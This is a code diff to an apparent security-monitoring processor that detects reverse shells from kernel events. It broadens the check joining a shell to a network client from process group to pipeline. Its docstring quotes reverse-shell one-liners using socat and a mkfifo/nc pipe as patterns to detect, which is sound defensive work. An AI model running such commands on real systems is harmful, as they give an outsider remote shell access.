@@ -12,7 +12,8 @@ connection. The kernel events show that connection in one of a few ways, one per
   ``sh -c`` for each line it reads; ``socat TCP:... EXEC:sh``);
 * a shell reading commands from stdin and a process that connected, joined by a pipe
   (``mkfifo f; cat f | sh -i | nc host port > f``); without pipe identities from the
-  collector, the same process group and a network client stand in for the pipe.
+  collector, a network client in the same pipeline (process group, or the same parent,
+  with pipes on both) stands in for the pipe.
 """
 
 from __future__ import annotations
@@ -28,7 +29,7 @@ from processors.engine.proctable import (
     SHELL,
     inet_stdio,
     piped,
-    same_group,
+    same_pipeline,
 )
 from processors.engine.record import record
 from processors.engine.state import KProc
@@ -91,7 +92,7 @@ def _joined(shell: KProc, client: KProc) -> bool:
         return False
     if piped(shell, client):
         return True
-    return client.has(NETCLIENT) and same_group(shell, client)
+    return client.has(NETCLIENT) and same_pipeline(shell, client)
 
 
 def report(run: Run, p: KProc, t: int, why: str, evidence: dict[str, object]) -> None:
